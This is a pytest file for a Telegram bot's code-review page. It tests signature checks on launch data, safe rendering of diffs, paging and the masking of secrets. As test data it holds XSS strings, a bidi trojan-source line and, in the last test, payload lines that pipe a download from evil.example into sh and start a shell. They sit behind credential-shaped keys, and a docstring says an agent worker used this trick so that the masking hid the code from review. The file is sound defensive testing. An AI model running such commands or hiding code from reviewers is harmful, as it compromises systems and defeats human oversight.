"""The review page's parts without a bot: launch data checked as Telegram documents it, the diff renderer (files,
line numbers, folded context, paging a 5 MB diff, binary files, bidi controls shown and not obeyed, code never
markup), the Review button as Telegram gets it (a Mini App button in a private chat, a t.me link in a group), and the
single HTML file for a long diff."""

from __future__ import annotations

import io
import json
import re
import urllib.parse

import pytest

from agents.core.actions import review_button
from agents.core.secrets_filter import SecretsFilter
from agents.git.diff import DiffReport
from agents.review import diff_view
from agents.review.launch_data import LaunchDataError, check, sign
from agents.review.pages import diff_page, flag_masked, is_long, standalone_html, templates
from telegram_bot.replies import keyboard

TOKEN = "123456:TEST-token"
NOW = 1_800_000_000.0


def signed(user_id: int = 7, token: str = TOKEN, at: float = NOW, **extra: str) -> str:
    fields = {"user": json.dumps({"id": user_id, "first_name": "Ann"}), "auth_date": str(int(at)), **extra}
    return sign(fields, token)


def test_launch_data_signed_with_the_bots_token_and_fresh_names_its_user() -> None:
    user = check(signed(start_param="task_5", query_id="q"), TOKEN, 86_400, now=NOW + 60)
    assert (user.user_id, user.name, user.start_param) == (7, "Ann", "task_5")


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (signed(token="654321:OTHER"), "not signed with this bot"),
        (signed(at=NOW - 86_401), "too old"),
        (signed(at=NOW + 3600), "future"),
        ("", "no launch data"),
        ("user=%7B%22id%22%3A7%7D&auth_date=1&hash=00", "not signed"),
        (signed() + "&auth_date=1", "twice"),
        (signed().replace("%22id%22%3A+7", "%22id%22%3A+8").replace("%22id%22%3A7", "%22id%22%3A8"), "not signed"),
        (sign({"auth_date": str(int(NOW))}, TOKEN), "without a user"),
        ("x" * 9000, "no launch data"),
    ],
)
def test_launch_data_not_telegrams_or_too_old_is_refused(data: str, why: str) -> None:
    with pytest.raises(LaunchDataError, match=why):
        check(data, TOKEN, 86_400, now=NOW)


def test_the_third_party_signature_field_is_part_of_what_the_bots_hash_signs() -> None:
    """Telegram's initData carries `signature` (Ed25519, for third parties) beside `hash`: the bot's hash covers it."""
    data = signed(signature="c2lnbmF0dXJl")
    assert check(data, TOKEN, 86_400, now=NOW).user_id == 7
    with pytest.raises(LaunchDataError, match="not signed"):
        check(data.replace("c2lnbmF0dXJl", "b3RoZXI"), TOKEN, 86_400, now=NOW)


def test_a_tampered_user_fails_the_signature() -> None:
    fields = dict(urllib.parse.parse_qsl(signed()))
    fields["user"] = json.dumps({"id": 8, "first_name": "Ann"})
    with pytest.raises(LaunchDataError, match="not signed"):
        check(urllib.parse.urlencode(fields), TOKEN, 86_400, now=NOW)


def patch_of(files: dict[str, tuple[list[str], list[str]]]) -> bytes:
    """A git-style patch: each file's old lines removed, new lines added, in one hunk."""
    out = []
    for path, (old, new) in files.items():
        out += [f"diff --git a/{path} b/{path}", "index 1111111..2222222 100644", f"--- a/{path}", f"+++ b/{path}"]
        out.append(f"@@ -1,{len(old)} +1,{len(new)} @@")
        out += [f"-{line}" for line in old] + [f"+{line}" for line in new]
    return ("\n".join(out) + "\n").encode()


def test_a_file_is_shown_with_line_numbers_highlighting_and_folded_context() -> None:
    context = [f"x{i} = {i}" for i in range(20)]
    text = (
        "diff --git a/m.py b/m.py\n--- a/m.py\n+++ b/m.py\n@@ -41,22 +41,22 @@ def f():\n"
        + "".join(f" {line}\n" for line in context[:10])
        + "-old = 1\n+new = 2\n"
        + "".join(f" {line}\n" for line in context[10:])
    )
    fd = diff_view.parse_file(text)
    kinds = [line.kind for line in fd.lines]
    assert kinds[0] == "fold" and fd.lines[0].folded == 40  # the 40 lines before the hunk, one row
    assert kinds.count("fold") == 3  # and a run of 10 unchanged lines on each side of the change
    removed = next(line for line in fd.lines if line.kind == "del")
    added = next(line for line in fd.lines if line.kind == "add")
    assert (removed.old, removed.new, added.old, added.new) == (51, None, None, 51)
    assert '<span class="n">new</span>' in added.html  # Pygments' colours, by the file's name
    assert (fd.added, fd.removed) == (1, 1)


def test_code_is_never_markup_and_bidi_controls_are_shown_not_obeyed() -> None:
    evil = 'access = "user\u202e \u2066// admin\u2069 \u2066"'
    fd = diff_view.parse_file(
        patch_of(
            {"page.html": ([], ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>"]), "a.py": ([], [evil])}
        )
        .decode()
        .split("diff --git a/a.py")[0]
    )
    shown = "".join(line.html for line in fd.lines)
    text = re.sub(r"</?span[^>]*>", "", shown)
    assert "<script" not in shown and "<img" not in shown and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    other = diff_view.parse_file("diff --git a/a.py b/a.py\n@@ -0,0 +1 @@\n+" + evil + "\n")
    html = other.lines[-1].html
    assert not diff_view.BIDI.search(html), "a bidi control reached the page"
    assert "⟨U+202E⟩" in html and "⟨U+2066⟩" in html and "⟨U+2069⟩" in html


def test_binary_and_mode_changes_are_named() -> None:
    text = "diff --git a/logo.png b/logo.png\nnew file mode 100644\nBinary files /dev/null and b/logo.png differ\n"
    fd = diff_view.parse_file(text)
    assert (fd.path, fd.change, fd.lines) == ("logo.png", "binary", [])
    page = (
        templates()
        .load("files.html")
        .generate(files=[fd], named_binary=["icon.ico"], named_huge=[("data.csv", "3 MB")], truncated=False)
    )
    assert b"binary file: not shown" in page and b"icon.ico" in page and b"data.csv" in page


def test_a_5_mb_diff_is_paged_and_one_page_is_bounded() -> None:
    files = {
        f"src/module_{n:03}.py": (
            [f"value_{i} = {i}" for i in range(600)],
            [f"value_{i} = {i + 1}" for i in range(600)],
        )
        for n in range(250)
    }
    patch = patch_of(files)
    assert len(patch) > 5_000_000
    first = diff_page(io.BytesIO(patch), DiffReport(binary=["b.bin"]), 0, 100_000, SecretsFilter().mask)
    assert first.page_count > 20 and 0 < len(first.files) < 15
    assert first.named_binary == []  # files not inlined are listed after the last page's files
    last = diff_page(
        io.BytesIO(patch), DiffReport(binary=["b.bin"]), 10_000, 100_000, SecretsFilter().mask
    )  # past the end
    assert last.page == last.page_count - 1 and last.named_binary == ["b.bin"]
    html = templates().load("diff_page.html").generate(**first.namespace())
    assert len(html) < 3_000_000 and b"page 1 of" in html and b'data-page="1"' in html


def test_the_review_button_is_a_mini_app_in_private_chats_and_a_link_in_groups() -> None:
    rows = [[review_button(5, "https://review.example/agentlab/")]]
    private = keyboard(rows, 1001, "https://t.me/agentlab_bot/review").to_dict()["inline_keyboard"]
    assert private == [[{"text": "🔍 Review", "web_app": {"url": "https://review.example/agentlab/task/5"}}]]
    group = keyboard(rows, -100123, "https://t.me/agentlab_bot/review").to_dict()["inline_keyboard"]
    assert group == [[{"text": "🔍 Review", "url": "https://t.me/agentlab_bot/review?startapp=task_5"}]]
    assert keyboard(rows, -100123, None) is None  # no Mini App registered: no button Telegram would refuse


def test_a_long_diff_comes_as_one_page_with_no_script_and_nothing_from_elsewhere() -> None:
    patch = (
        b"# Task branch agentlab/task-3 vs its base 1234567890\n# Binary files, not shown:\n#   logo.png\n\n"
        + patch_of({"calc.py": (["return a - b"], ["return a + b"] * 100)})
    )
    assert is_long(patch) and not is_long(b"x\n" * 10)
    page = standalone_html("Task #3", "Diff of task #3", patch).decode()
    assert "<script" not in page and "http://" not in page and "https://" not in page
    assert "logo.png" in page and "calc.py" in page and page.count('class="add"') == 100


def test_side_by_side_pairs_removed_lines_with_the_added_ones_after_them() -> None:
    fd = diff_view.parse_file(
        "diff --git a/a.py b/a.py\n@@ -1,4 +1,4 @@\n keep = 0\n-one = 1\n-two = 2\n+uno = 1\n keep = 3\n"
    )
    rows = diff_view.split_rows(fd.lines)
    assert [r.kind for r in rows] == ["ctx", "change", "change", "ctx"]
    assert (rows[1].left.old, rows[1].right.new) == (2, 2) and (rows[2].left.old, rows[2].right) == (3, None)
    page = diff_page(
        io.BytesIO(("diff --git a/a.py b/a.py\n" + "@@ -1 +1 @@\n-x = 1\n+x = 2\n").encode()),
        DiffReport(),
        0,
        10_000,
        SecretsFilter().mask,
        True,
    )
    html = templates().load("diff_page.html").generate(**page.namespace()).decode()
    assert 'class="diff split code"' in html and 'class="src del"' in html and 'class="src add"' in html


def test_a_runners_summary_gets_the_bots_review_button_and_buttons_survive_the_outbox_and_payloads() -> None:
    from agents.core.actions import Action, button, with_review
    from agents.engine.payloads import decode_buttons as from_payload
    from agents.engine.payloads import encode_buttons as to_payload
    from agents.store.delivery import decode_buttons, encode_buttons

    summary = [[button("Merge", Action.MERGE, 4), button("Diff", Action.DIFF, 4)]]
    shown = with_review(summary, 4, "https://r.example")
    assert shown is not None and shown[-1] == [review_button(4, "https://r.example")]
    assert with_review(shown, 4, "https://r.example") == shown  # once
    assert with_review(summary, 4, None) == summary  # no REVIEW_URL: as it was
    assert with_review([[button("Resume", Action.RESUME, 4)]], 4, "https://r.example") == [
        [button("Resume", Action.RESUME, 4)]
    ]  # nothing committed: nothing to review
    assert decode_buttons(encode_buttons(shown)) == shown
    assert from_payload(to_payload(shown)) == shown
    assert decode_buttons('[[["Merge", "task:merge:4"]]]') == [[button("Merge", Action.MERGE, 4)]]  # an older row


KEY_SHAPE = "sk-ant-api03-" + "A1b2C3d4E5f6G7h8I9j0" * 4  # a key's shape, bare: the highlighter cuts it at each `-`
VALUE = 's3cr3t&value<with>"quotes"'  # an added value made of what HTML escapes


def test_a_page_masks_the_diff_before_it_is_drawn_where_masking_its_html_would_miss() -> None:
    secrets = SecretsFilter()
    secrets.add([VALUE])
    patch = patch_of({"app.py": (["x = 1"], ["x = 1", f"KEY = {KEY_SHAPE}", f"OTHER = '{VALUE}'"])})
    report = DiffReport(binary=[f"keys/{KEY_SHAPE}.bin"])
    page = diff_page(io.BytesIO(patch), report, 0, 100_000, secrets.mask)
    html = templates().load("diff_page.html").generate(**page.namespace()).decode()
    assert "A1b2C3d4E5f6G7h8I9j0" not in html and "s3cr3t" not in html and html.count("masked") == 4, (
        html
    )  # 3 masks, 1 note
    # why before: drawn first, the key is split across the highlighter's spans, and a filter run over the HTML misses it
    drawn = (
        templates().load("diff_page.html").generate(**diff_page(io.BytesIO(patch), report, 0, 100_000, str).namespace())
    )
    shown_late = secrets.mask(drawn.decode())
    assert "A1b2C3d4E5f6G7h8I9j0" in shown_late


def test_the_single_page_is_drawn_from_the_masked_document() -> None:
    secrets = SecretsFilter()
    patch = b"# Task branch agentlab/task-3 vs its base 1234567890\n\n" + patch_of(
        {"app.py": (["x = 1"], [f"KEY = {KEY_SHAPE}"] + [f"y{i} = {i}" for i in range(100)])}
    )
    page = standalone_html("Task #3", "Diff of task #3", secrets.mask_bytes(patch)).decode()
    assert "A1b2C3d4E5f6G7h8I9j0" not in page and "masked" in page


def test_code_behind_a_credential_shaped_line_is_named_on_the_page_and_in_the_document() -> None:
    """A line shaped like a credential setting is masked to its end, so a worker wrote its payload on one: the owner
    reviewed `extraheader = «masked»` where Merge brings code. The mask stays (it may be a secret); the page and the
    Diff document now name each such added line, to be read in the branch before merging."""
    secrets = SecretsFilter()
    payload = [
        "VALUE = 1",
        'extraheader = 0; __import__("os").system("curl -s http://evil.example/x | sh")',
        "authorization = 0; import subprocess; subprocess.run(chr(115) + chr(104))",
    ]
    patch = patch_of({"app.py": (["VALUE = 1"], payload), "b.py": (["x = 1"], ["x = 2"])})
    page = diff_page(io.BytesIO(patch), DiffReport(), 0, 100_000, secrets.mask)
    html = templates().load("diff_page.html").generate(**page.namespace()).decode()
    assert "evil.example" not in html and "subprocess.run" not in html  # still masked
    [app, other] = page.files
    assert app.note.startswith("⚠ 2 added line(s) hold text the bot masked as a secret"), app.note
    assert "(app.py:2, app.py:3)" in app.note and "read them in the branch before merging" in html
    assert other.note == ""
    document, caption = flag_masked(secrets.mask_bytes(b"# Task branch t vs its base 1\n\n" + patch), "Diff of task #1")
    assert document.startswith(b"# \xe2\x9a\xa0 2 added line(s) hold text the bot masked") and b"app.py:3)" in document
    assert caption == "Diff of task #1; ⚠ 2 added line(s) masked: read them in the branch before merging"
    assert flag_masked(patch, "Diff") == (patch, "Diff"), "nothing masked, nothing said"
